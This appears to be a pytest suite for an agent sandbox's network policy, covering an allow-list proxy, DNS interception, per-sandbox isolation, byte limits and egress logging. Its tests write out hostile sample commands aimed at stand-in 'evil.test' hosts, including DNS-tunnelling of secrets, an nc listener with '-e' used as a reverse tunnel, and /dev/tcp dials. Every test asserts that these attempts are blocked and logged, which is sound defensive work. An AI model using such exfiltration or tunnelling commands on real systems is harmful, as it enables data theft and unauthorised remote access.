"""The network of sandboxes by policy: what an agent's programs see, and what is noted of them.

Everything stays on the loopback of this machine and in the sandboxes' own namespaces.
"""

import os
import socket
import time

import pytest

from rome.envs import make_sandbox
from rome.envs.common import BackendUnavailable
from rome.envs.network.attempts import EgressLog
from rome.envs.network.policy import NetworkPolicy
from tests.envs.network.namespace import PYTHON, served
from tests.envs.network.servers import echo, pages

PODMAN = pytest.param("podman", marks=pytest.mark.slow)


@pytest.fixture(scope="module")
def world():
  with pages() as web, echo() as raw:
    yield web, raw


def policy(web, raw, **settings):
  """Names and the addresses they lead to; "localhost" stands for an outside name."""
  allow = (f"localhost:{web}", f"127.0.0.1:{web}", f"localhost:{raw}", f"127.0.0.1:{raw}")
  settings = {"allow": (*allow, "*.allowed.test:443"), **settings}
  return NetworkPolicy(**{"forward": {8000: ("127.0.0.1", web)}, **settings})


@pytest.fixture(scope="module", params=[PODMAN, "bubblewrap"])
def shared(request, world):
  with make_sandbox(backend=request.param, network=policy(*world)) as sandbox:
    yield sandbox


@pytest.fixture
def sandbox(shared):
  shared.reset()
  shared.episode = ""
  return shared


def noted(sandbox, kind=None):
  return [
    (a.kind, a.destination, a.allowed) for a in sandbox.attempts() if kind in (None, a.kind)
  ]  # fmt: skip


def test_programs_that_know_the_proxy(sandbox, world):
  web, _ = world
  sandbox.episode = "episode 7"
  result = sandbox.run(f"wget -qO- http://127.0.0.1.:{web}/a || wget -qO- http://LOCALHOST:{web}/b")
  assert "GET /a" in result.output or "GET /b" in result.output
  assert "403" in sandbox.run("wget -O- http://evil.test/x").output
  found = {(a.kind, a.destination, a.allowed, a.episode) for a in sandbox.attempts()}
  assert ("http", "evil.test:80", False, "episode 7") in found
  sandbox.reset()
  assert sandbox.attempts() == []
  assert sandbox.run("echo $https_proxy $no_proxy").output.startswith("http://127.0.0.1:3128 local")


def test_programs_that_know_no_proxy(sandbox, world):
  """By DNS and a forwarder: the name leads to a loopback address where only its ports listen."""
  web, raw = world
  answer = sandbox.run("nslookup localhost").output
  assert "127.77.0.1" in answer
  talk = f"exec 3<>/dev/tcp/127.77.0.1/{raw}; echo git-upload-pack >&3; head -n 1 <&3"
  assert sandbox.run(talk).output == "git-upload-pack\n"
  assert "refused" in sandbox.run("echo > /dev/tcp/127.77.0.1/22").output
  sandbox.run("exec 3>&-")
  deadline = time.monotonic() + 10
  while time.monotonic() < deadline:
    found = {(a.destination, a.allowed): a for a in sandbox.attempts() if a.kind != "dns"}
    if found[f"localhost:{raw}", True].received:
      break
    time.sleep(0.05)
  assert found[f"localhost:{raw}", True].sent == len("git-upload-pack\n")
  assert found["localhost:22", False].kind == "direct"


def test_forwards_and_loopback_rules(sandbox, world):
  web, raw = world
  for port in (8000, web):
    output = sandbox.run(f"wget -Y off -qO- http://127.0.0.1:{port}/model").output
    assert output.startswith("GET /model"), output
  assert noted(sandbox) == [("connect", f"127.0.0.1:{web}", True)] * 2


def test_names_that_carry_secrets_out(sandbox):
  """Nothing is asked of any server for them: the answer is made here, and each name is noted."""
  sandbox.run("for i in 1 2 3; do nslookup s3cret$i.tunnel.evil.test; done")
  sandbox.run("nslookup -type=txt s3cret.evil.test; nslookup ALLOWED.test")
  names = [destination for _, destination, allowed in noted(sandbox, "dns") if not allowed]
  assert {f"s3cret{i}.tunnel.evil.test" for i in (1, 2, 3)} <= set(names)
  assert {"s3cret.evil.test", "ALLOWED.test"} <= set(names)
  assert not any(allowed for _, _, allowed in noted(sandbox))


def test_subdomains_get_forwarders_when_asked_for(sandbox):
  output = sandbox.run("nslookup a.b.allowed.test; nslookup C.allowed.TEST.").output
  addresses = {
    line.split()[1] for line in output.splitlines() if line.startswith("Address: 127.77")
  }
  assert len(addresses) == 2
  again = sandbox.run("nslookup a.b.allowed.test").output
  assert len(addresses | {line.split()[1] for line in again.splitlines() if "127.77" in line}) == 2


def test_a_reverse_tunnel(sandbox):
  """A program that listens inside and dials out: nothing reaches it, and its calls are noted."""
  listener = "nc -l -p 2222 -e cat & sleep 0.1; "
  dials = "for p in 22 443; do echo > /dev/tcp/127.77.0.1/$p; done; "
  connect = (
    "printf 'CONNECT tunnel.evil.test:22 HTTP/1.1\\r\\nHost: tunnel.evil.test:22\\r\\n\\r\\n'"
  )
  result = sandbox.run(listener + dials + connect + " | nc 127.0.0.1 3128")
  assert "403" in result.output and "not in the allow-list" in result.output
  with socket.socket() as outside:
    assert outside.connect_ex(("127.0.0.1", 2222)) != 0  # the host has no way in, either
  assert {("connect", "tunnel.evil.test:22", False), ("direct", "localhost:22", False)} <= set(
    noted(sandbox)
  )


TAKERS = """
import errno, socket
for address in ("127.0.0.1", "0.0.0.0", "::"):
  for kind, port in ((socket.SOCK_STREAM, 3128), (socket.SOCK_STREAM, 53), (socket.SOCK_DGRAM, 53)):
    taker = socket.socket(socket.AF_INET6 if address == "::" else socket.AF_INET, kind)
    taker.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
    taker.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEPORT, 1)
    try:
      taker.bind((address, port))
      if kind == socket.SOCK_STREAM: taker.listen()
      print("took", address, kind, port)
    except OSError as error:
      print(errno.errorcode[error.errno])
"""


def test_a_program_cannot_take_the_servers_places(world):
  with served(policy(*world)) as sandbox:
    sandbox.write_file("t.py", TAKERS.encode())
    assert sandbox.run(f"{PYTHON} t.py", 60).output == "EADDRINUSE\n" * 9


def test_root_sees_no_more(sandbox, world):
  web, _ = world
  command = "wget -Y off -qO- http://127.0.0.1:8000/v; wget -O- http://evil.test/ 2>&1"
  output = sandbox.session("root", user="root").run(command).output
  assert "GET /v" in output and "403" in output
  assert ("http", "evil.test:80", False) in noted(sandbox)


def test_another_sandbox_is_out_of_reach(sandbox, world):
  """Neither its loopback nor its listeners: the same numbers lead to one's own."""
  other_policy = NetworkPolicy(forward={8001: ("127.0.0.1", world[0])})
  with make_sandbox(backend=sandbox.backend, network=other_policy) as other:
    other.run("nc -l -p 7777 -e echo secret &")
    assert "refused" in sandbox.run("echo > /dev/tcp/127.0.0.1/7777").output
    assert "refused" in sandbox.run("echo > /dev/tcp/127.0.0.1/8001").output
    assert "refused" in other.run("echo > /dev/tcp/127.0.0.1/8000").output
    assert "403" in other.run(f"wget -O- http://localhost.:{world[0]}/").output
    assert "GET /" in other.run("wget -Y off -qO- http://127.0.0.1:8001/").output
    assert noted(sandbox) == []


def test_without_a_policy_there_is_nothing(isolated):
  assert isolated.network is None
  output = isolated.run(
    "env | grep -i proxy; cat /etc/resolv.conf; nc 127.0.0.1 3128 < /dev/null"
  ).output
  assert output == "nc: can't connect to remote host (127.0.0.1): Connection refused\n"
  assert isolated.attempts() == []
  with pytest.raises(AttributeError):
    isolated.network = NetworkPolicy()


def test_a_policy_needs_a_namespace():
  with pytest.raises(BackendUnavailable, match="shares this machine's network"):
    make_sandbox(backend="process", network=NetworkPolicy(), accept_no_isolation=True)


def test_limits_of_connections_and_bytes(world):
  _, raw = world
  limited = policy(*world, max_connections=3, max_bytes=50_000)
  with make_sandbox(backend="bubblewrap", network=limited) as sandbox:
    dial = f"exec {{a}}<>/dev/tcp/127.77.0.1/{raw}; echo x >&$a; head -n 1 <&$a; "
    result = sandbox.run(dial * 3 + dial)
    assert result.output.count("x") == 3
    assert ("connect", f"localhost:{raw}", False) in noted(sandbox)
    sandbox.reset()
    send = f"head -c 200000 /dev/zero | nc 127.77.0.1 {raw} | wc -c"
    assert int(sandbox.run(send).output.split()[-1]) <= 50_000
    reasons = {a.reason for a in sandbox.attempts()}
    assert "max_bytes of the episode are spent" in reasons
    assert sandbox.run(f"echo y | nc 127.77.0.1 {raw}").output == ""
    sandbox.reset()
    assert sandbox.run(f"echo y | nc 127.77.0.1 {raw}").output == "y\nbye"


def test_a_reset_ends_connections_and_finishes_their_records(sandbox, world, tmp_path):
  _, raw = world
  log = EgressLog(tmp_path / "egress.jsonl")
  sandbox.log_attempts(log)
  sandbox.episode = "before"
  sandbox.run(f"exec 3<>/dev/tcp/127.77.0.1/{raw}; echo x >&3; head -n 1 <&3")
  sandbox.reset()
  text = (tmp_path / "egress.jsonl").read_text()
  assert '"episode": "before"' in text and '"sent": 2' in text and sandbox.id in text
  sandbox.log_attempts(None)
  log.close()


def test_the_sandbox_may_die_first(world):
  with make_sandbox(backend="bubblewrap", network=policy(*world)) as sandbox:
    sandbox.run("nslookup evil.test")
    os.kill(sandbox._launched.pid, 9)
    assert ("dns", "evil.test", False) in noted(sandbox)


def curl(sandbox, arguments, timeout=60):
  return sandbox.run(f"curl -sS --noproxy '' -x http://127.0.0.1:3128 {arguments}", timeout)


def test_programs_of_this_machine(world):
  """curl and Python's urllib by the proxy, and Python through the DNS server and a forwarder."""
  web, raw = world
  with served(policy(web, raw)) as sandbox:
    assert curl(sandbox, f"http://localhost:{web}/c").output.startswith("GET /c")
    assert curl(sandbox, f"-p http://localhost:{web}/t").output.startswith("GET /t")  # CONNECT
    assert curl(sandbox, f"-d abc http://127.0.0.1:{web}/").output == "posted 3 b'abc'\n"
    assert "403" in curl(sandbox, "https://evil.test/").output
    script = (
      "import urllib.request as r; o = r.build_opener(r.ProxyHandler({'http': 'http://127.0.0.1:3128'}));"
      f"print(o.open('http://localhost:{web}/u').read().decode())"
    )
    assert sandbox.run(f'{PYTHON} -c "{script}"', 60).output.startswith("GET /u")
    sandbox.run("echo > /dev/tcp/192.0.2.1/22")
    found = noted(sandbox)
    assert found[-1] == ("direct", "192.0.2.1:22", False)
    assert {("http", f"localhost:{web}", True), ("connect", f"localhost:{web}", True),
            ("connect", "evil.test:443", False)} <= set(found)  # fmt: skip


CROWD = """
import asyncio
async def one(i):
  reader, writer = await asyncio.open_connection("127.0.0.1", 3128)
  writer.write(b"CONNECT 127.0.0.1:PORT HTTP/1.1\\r\\nHost: 127.0.0.1\\r\\n\\r\\n")
  assert b"200" in await reader.readuntil(b"\\r\\n\\r\\n")
  barrier.append(i)
  while len(barrier) < COUNT: await asyncio.sleep(0.01)
  for k in range(3):
    text = b"%d-%d" % (i, k)
    writer.write(text)
    assert await reader.readexactly(len(text)) == text
  writer.close()
async def main():
  await asyncio.gather(*[one(i) for i in range(COUNT)])
  print("all")
barrier = []
asyncio.run(main())
"""


@pytest.mark.slow
def test_two_hundred_at_once(world):
  _, raw = world
  with served(policy(*world)) as sandbox:
    script = CROWD.replace("PORT", str(raw)).replace("COUNT", "200")
    sandbox.write_file("crowd.py", script.encode())
    result = sandbox.run(f"{PYTHON} crowd.py", 100)
    assert result.output == "all\n", result
    assert [a.allowed for a in sandbox.attempts()] == [True] * 200


FLOW = """
import socket, threading, time
s = socket.create_connection(("127.0.0.1", 3128))
s.sendall(b"CONNECT 127.0.0.1:PORT HTTP/1.1\\r\\nHost: 127.0.0.1\\r\\n\\r\\n")
assert b"200" in s.recv(1000)
size, block, start = 200 << 20, b"x" * (1 << 18), time.monotonic()
def send():
  for _ in range(size // len(block)): s.sendall(block)
  s.shutdown(socket.SHUT_WR)
threading.Thread(target=send).start()
got = 0
while data := s.recv(1 << 20): got += len(data)
assert got == size + 3, got
print(time.monotonic() - start)
"""


@pytest.mark.slow
def test_two_hundred_megabytes(world):
  """Up and down again, through CONNECT, whole. Its speed depends on the machine."""
  with served(policy(*world)) as sandbox:
    sandbox.write_file("flow.py", FLOW.replace("PORT", str(world[1])).encode())
    result = sandbox.run(f"{PYTHON} flow.py", 120)
    assert 0 < float(result.output) < 120
    (attempt,) = sandbox.attempts()
    assert attempt.sent == 200 << 20 and attempt.received == (200 << 20) + 3
    print(f"{400 / float(result.output):.0f} MiB/s both ways together")


TCP_DNS = """
import socket, struct
def ask(stream, name):
  labels = b"".join(bytes([len(l)]) + l for l in name.split(b"."))
  message = struct.pack(">6H", 7, 256, 1, 0, 0, 0) + labels + bytes(1) + struct.pack(">HH", 1, 1)
  stream.sendall(struct.pack(">H", len(message)) + message)
  size = struct.unpack(">H", stream.recv(2, socket.MSG_WAITALL))[0]
  answer = stream.recv(size, socket.MSG_WAITALL)
  return answer[3] & 15, socket.inet_ntoa(answer[-4:]) if answer[7] else None
with socket.create_connection(("127.0.0.1", 53)) as stream:
  print(ask(stream, b"localhost"), ask(stream, b"evil.test"), ask(stream, b"x.allowed.test"))
with socket.create_connection(("127.0.0.1", 53)) as stream:
  stream.sendall(bytes(5))
  print(stream.recv(10))
"""


def test_dns_over_tcp(world):
  with served(policy(*world)) as sandbox:
    sandbox.write_file("d.py", TCP_DNS.encode())
    output = sandbox.run(f"{PYTHON} d.py", 60).output
    assert output == "(0, '127.77.0.1') (3, None) (0, '127.77.0.2')\nb''\n"
    assert [a.allowed for a in sandbox.attempts()] == [True, False, True]


def test_a_name_that_begins_like_a_loopback_address_is_a_name():
  with served(NetworkPolicy(allow=("127.allowed.test:443",))) as sandbox:
    script = (
      TCP_DNS.split("with ")[0]
      + """
with socket.create_connection(("127.0.0.1", 53)) as stream:
  print(ask(stream, b"127.allowed.test"))
"""
    )
    sandbox.write_file("d.py", script.encode())
    assert sandbox.run(f"{PYTHON} d.py", 60).output == "(0, '127.77.0.1')\n"
